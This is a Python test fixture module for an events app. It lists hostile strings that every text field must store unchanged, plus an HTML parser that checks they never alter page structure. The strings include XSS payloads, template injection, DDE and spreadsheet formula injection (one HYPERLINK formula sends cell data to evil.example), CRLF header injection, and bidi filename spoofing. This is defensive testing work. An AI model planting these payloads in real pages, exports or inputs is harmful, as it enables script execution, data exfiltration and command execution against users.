"""Hostile texts for every text field, and a parser that shows their effect on a page."""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from html.parser import HTMLParser
from typing import Any

import pytest

from events import rules
from events.fields import FIELDS

TEXT_FIELDS = tuple(field.name for field in FIELDS if field.kind is str and field.rule is not rules.day)

# Every field accepts and returns these unchanged. They have no slash, so that an event ID accepts them too.
TAKEN = {
    "all in plain sight": "=\"'><svg onload=alert(1)><!--{{ 7|add:7 }}{% x %}%0d%0aX: 1&quot;\\",
    "all that is hidden": "\u202ea\u2069\u200bZ"
    + "\u0334" * 9
    + "\u200d1\U0001f469\u200d\U0001f467 \u05e9\U000e0041z\u2028",
    "markup": "<b onmouseover='alert(1)'>x<!-- <svg onload=alert(2)>",
    "script": "<script>window.taken = 1<\\script><script src=x>",
    "end of an attribute": '" autofocus onfocus="window.taken = 1" x=\'&#39;&quot;',
    "template": "{{ 7|add:7 }}{% debug %}{# x #}${7*7}{% csrf_token %}",
    "equals": '=HYPERLINK("http:evil.example?a="&A1,"x")',
    "plus": "+cmd|' C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|'calc'!A0",
    "full width equals": "\uff1dSUM(A1)",
    "apostrophes": "''=1+1",
    "semicolon": "a;=1+1",
    "error cell": "#N\u2044A",
    "right to left": "\u202egpj.exe",
    "never closed": "a\u202b\u202d\u2067\u2068b",
    "closed too often": "a\u2069\u202c\u202eb",
    "zero width": "\u200bLau\u200dnch\u2060\ufeff",
    "hebrew": "\u05e9\u05dc\u05d5\u05dd (1) 2, 3",
    "combining": "Z" + "\u0301\u0334\u0489" * 80,
    "emoji": "\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e0062\U000e007f \U0001f1e9\U0001f1ea 1\ufe0f\u20e3",
    "line separators": "a\u2028b\u2029c",
    "not characters": "a\ufffe\uffff\U0010ffffz",
    "percents": "%0d%0aX-Evil: 1%00%2e%2e%s%(x)s%n",
    "braces": "{0.__class__} {x!r} {}",
    "end of the JSON": '","eventId":"other"},{"a":"\\u0000',
    "end of the calendar": "x;y:z,BEGIN:VEVENT\\nEND:VCALENDAR",
    "excel's escape": "_x000D_ _x005F_ _x0041_",
    "spaces around": " \u00a0a\u3000 ",
    "dots": "... ..",
    "512 bytes": "\u00e9" * 256,
}
# No field accepts these. Each has its error message.
REFUSED = {
    "nul": ("a\0b", "has a control character (U+0000)"),
    "escape": ("a\x1b[31mb", "has a control character (U+001B)"),
    "carriage return": ("a\rX-Evil: 1", "has a control character (U+000D)"),
    "delete": ("a\x7f", "has a control character (U+007F)"),
    "next line": ("a\x85b", "has a control character (U+0085)"),
    "first half of a pair": ("a\ud83d", "has half a surrogate pair (U+D83D)"),
    "second half of a pair": ("\ude00a", "has half a surrogate pair (U+DE00)"),
    "pair in the wrong order": ("\ude00\ud83d", "has half a surrogate pair (U+DE00)"),
}


def mostly_at_length(texts: Mapping[str, Any] | Iterable[Any], in_short: int = 2) -> list[Any]:
    """Parameters: the first texts for every run, the others only for stress tests."""
    named = texts if isinstance(texts, Mapping) else {str(number): text for number, text in enumerate(texts)}
    return [
        pytest.param(text, id=name, marks=() if number < in_short else pytest.mark.stress)
        for number, (name, text) in enumerate(named.items())
    ]


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.built: list[str] = []
        self.said: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.built.append(f"<{tag} {' '.join(name for name, _ in attrs)}>")
        self.said += [value for _, value in attrs if value]

    def handle_endtag(self, tag: str) -> None:
        self.built.append(f"</{tag}>")

    def handle_comment(self, data: str) -> None:
        self.built.append("<!---->")

    def handle_data(self, data: str) -> None:
        self.said.append(data)


def _read(response: Any) -> _Reader:
    reader = _Reader()
    reader.feed(response.content.decode())
    reader.close()
    return reader


def build_of(response: Any) -> list[str]:
    """The tags of a page and the names of their attributes, in order. No text may change them."""
    return _read(response).built


def said_on(response: Any) -> str:
    """The text of a page and the values of all attributes."""
    return "\n".join(_read(response).said)
